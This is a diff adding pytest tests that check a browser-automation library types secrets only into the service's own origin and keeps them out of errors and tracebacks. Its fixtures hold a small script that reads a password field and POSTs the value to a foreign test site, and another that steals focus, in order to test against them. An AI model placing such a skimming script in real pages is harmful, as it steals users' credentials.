@@ -1,0 +1,162 @@
+"""A secret is typed into the service's own origin and nowhere else, and no error tells it."""
+
+import asyncio
+import traceback
+
+import pytest
+from pydantic import SecretStr
+
+from journeyman.adapters.playwright.page import ChromiumPage
+from journeyman.adapters.playwright.secret_typing import check_origin, type_secret
+from journeyman.domain.page import Target
+from journeyman.errors import JourneymanError, OriginViolation, RecipeBroken, Transient
+
+from .conftest import Site
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+SECRET = SecretStr("correct-Horse7battery")
+FIELDS = "<form method=post><label>Email <input name=email></label><label>Password <input type=password name=pw></label>"
+PASSWORD = Target("textbox", "Password")
+TELL = "<script>setInterval(() => { const f = document.querySelector('[name=pw]'); f && f.value && fetch('/got', {method: 'POST', body: f.value}) }, 5)</script>"  # noqa: E501 - one script
+
+
+def told(error: BaseException) -> str:
+    """Return all that a log could hold of an error: chain, repr, traceback."""
+    chain = [repr(error.__cause__), repr(error.__context__), repr(error), str(error)]
+    return "\n".join([*chain, *traceback.format_exception(error)])
+
+
+async def test_secret_arrives_with_the_form(tab: ChromiumPage, site: Site) -> None:
+    """A secret typed into the service's own form is what the form sends."""
+    site.pages["/login"] = FIELDS + "<button>Sign in</button></form>"
+    await tab.goto("/login")
+    await tab.fill(Target("textbox", "Email"), "a@agents.test")
+    await tab.fill(PASSWORD, SECRET)
+    await tab.click(Target("button", "Sign in"))
+    assert "POST /login? email=a%40agents.test&pw=correct-Horse7battery" in site.requests
+
+
+async def test_controlled_inputs_notice(tab: ChromiumPage, site: Site) -> None:
+    """A script that follows `input` events and tracks the value property, as React does, sees the secret typed."""
+    site.pages["/"] = (
+        FIELDS
+        + """<p id=o></p><script>
+        const f = document.querySelector('[name=pw]'), own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
+        let tracked = '';
+        Object.defineProperty(f, 'value', {get() { return own.get.call(this) }, set(v) { tracked = v; own.set.call(this, v) }});
+        f.addEventListener('input', () => { if (own.get.call(f) !== tracked) o.textContent = 'noticed ' + own.get.call(f).length });
+        </script>"""
+    )
+    await tab.goto("/")
+    await tab.fill(PASSWORD, SECRET)
+    assert await tab.first_seen([Target("text", "noticed 21")], within=1) == 0
+
+
+@pytest.mark.parametrize("kind", ["cross-origin", "other port", "data", "sandboxed", "blank", "blob"])
+async def test_foreign_frame_gets_nothing(tab: ChromiumPage, site: Site, foreign: Site, kind: str) -> None:
+    """A frame of another or of no origin that shows the same fields, and claims to be the service, is refused."""
+    claim = f"<script>try {{ self.origin = '{site.origin}' }} catch {{}}</script>"
+    foreign.pages["/f"] = site.pages["/own"] = claim + FIELDS + TELL
+    frames = {
+        "cross-origin": f"src='{foreign.origin}/f'",
+        "other port": f"src='http://127.0.0.1:{foreign.port}/f'",
+        "data": 'src="data:text/html,' + (claim + FIELDS).replace('"', "'").replace("#", "") + '"',
+        "sandboxed": "sandbox=allow-scripts src=/own",
+        "blank": "src=about:blank",
+        "blob": "",
+    }
+    fill = {
+        "blank": f"frames[0].document.body.innerHTML = `{FIELDS}`",
+        "blob": f"f.src = URL.createObjectURL(new Blob([`{FIELDS}`], {{type: 'text/html'}}))",
+    }
+    site.pages["/"] = f"<iframe id=f {frames[kind]}></iframe><script>onload = () => {{ {fill.get(kind, '')} }}</script>"
+    await tab.goto("/")
+    with pytest.raises(OriginViolation) as caught:
+        await tab.fill(Target("textbox", "Password", frame="#f"), SECRET)
+    assert SECRET.get_secret_value() not in told(caught.value)
+    assert not [request for request in foreign.requests + site.requests if "correct-Horse" in request]
+
+
+async def test_same_origin_frame_is_typed_into(tab: ChromiumPage, site: Site) -> None:
+    """A frame of the service's own origin is as good as the page."""
+    site.pages |= {"/": "<iframe id=f src=/own></iframe>", "/own": FIELDS + "<button>Go</button></form>"}
+    await tab.goto("/")
+    await tab.fill(Target("textbox", "Password", frame="#f"), SECRET)
+    assert (await tab.read(Target("textbox", "Password", frame="#f"))).get_secret_value() == SECRET.get_secret_value()
+
+
+async def test_frame_that_navigates_between_check_and_typing(tab: ChromiumPage, site: Site, foreign: Site) -> None:
+    """The checked document is the one typed into: when its frame went elsewhere meanwhile, typing fails."""
+    foreign.pages["/f"] = FIELDS + TELL
+    site.pages |= {"/": "<iframe id=f src=/own></iframe>", "/own": FIELDS}
+    await tab.goto("/")
+    field = await tab._finder.element(Target("textbox", "Password", frame="#f"))
+    await check_origin(field, site.origin, "the field")
+    async with tab._tab.expect_event("framenavigated"):
+        await tab._tab.evaluate(f"f.src = '{foreign.origin}/f'")
+    await tab._finder.element(Target("textbox", "Password", frame="#f"))
+    with pytest.raises((Transient, OriginViolation)):
+        await type_secret(field, site.origin, SECRET, "the field")
+    assert not [request for request in foreign.requests if "correct-Horse" in request]
+
+
+async def test_frame_that_flips_and_steals_the_focus(tab: ChromiumPage, site: Site, foreign: Site) -> None:
+    """A foreign frame that takes the focus all the time gets no letter of what is typed into the page."""
+    foreign.pages["/f"] = FIELDS + TELL + "<script>setInterval(() => document.querySelector('[name=pw]').focus(), 1)</script>"
+    site.pages["/"] = FIELDS + f"</form><iframe id=f src='{foreign.origin}/f'></iframe>"
+    await tab.goto("/")
+    for _ in range(5):
+        await tab.fill(PASSWORD, SECRET)
+    await tab.first_seen([Target("text", "never")], within=0.2)
+    assert not [request for request in foreign.requests if "/got" in request]
+
+
+@pytest.mark.parametrize(
+    ("attribute", "says"),
+    [("disabled", "disabled"), ("readonly", "read-only"), ("maxlength=5", "too short"), ("type=number", "not taking")],
+)
+async def test_unusable_field_is_named_without_the_secret(
+    tab: ChromiumPage, site: Site, attribute: str, says: str
+) -> None:
+    """A field that can't take the secret is told as such; the secret is nowhere in the error, its chain or traceback."""
+    site.pages["/in"] = f"<label>Password <input {attribute}></label>"
+    await tab.goto("/in")
+    role = "spinbutton" if "number" in attribute else "textbox"
+    with pytest.raises(RecipeBroken, match=f'{role} "Password" on /in: it is there but {says}') as caught:
+        await tab.fill(Target(role, "Password"), SECRET)
+    assert SECRET.get_secret_value() not in told(caught.value)
+    assert "Playwright" not in told(caught.value)
+    assert "Call log" not in told(caught.value)
+    assert caught.value.__cause__ is None
+    assert caught.value.__context__ is None
+
+
+async def test_plain_text_into_a_disabled_field_is_not_told(tab: ChromiumPage, site: Site) -> None:
+    """What was to be typed stays out of the error also where it is no secret."""
+    name = "".join(["Zap", "hod"])  # not a text of the line that a traceback shows
+    site.pages["/in"] = "<label>Name <input disabled></label>"
+    await tab.goto("/in")
+    with pytest.raises(RecipeBroken, match="disabled") as caught:
+        await tab.fill(Target("textbox", "Name"), name)
+    assert "Zaphod" not in told(caught.value)
+
+
+async def test_page_that_goes_away_while_typing(tab: ChromiumPage, site: Site) -> None:
+    """A crash of the page is Transient, without the secret."""
+    site.pages["/"] = FIELDS
+    await tab.goto("/")
+    filling = asyncio.create_task(tab.fill(Target("textbox", "Missing"), SECRET))
+    await tab._tab.close()
+    with pytest.raises(JourneymanError) as caught:
+        await filling
+    assert isinstance(caught.value, Transient)
+    assert SECRET.get_secret_value() not in told(caught.value)
+
+
+async def test_one_box_for_each_character(tab: ChromiumPage, site: Site) -> None:
+    """A code typed into the first of six one-character boxes is spread over them."""
+    site.pages["/"] = "<form>" + "".join(f"<input maxlength=1 aria-label='Digit {n}'>" for n in range(1, 7)) + "</form>"
+    await tab.goto("/")
+    await tab.fill(Target("textbox", "Digit 1"), SecretStr("493817"))
+    assert (await tab.read(Target("textbox", "Digit 6"))).get_secret_value() == "7"
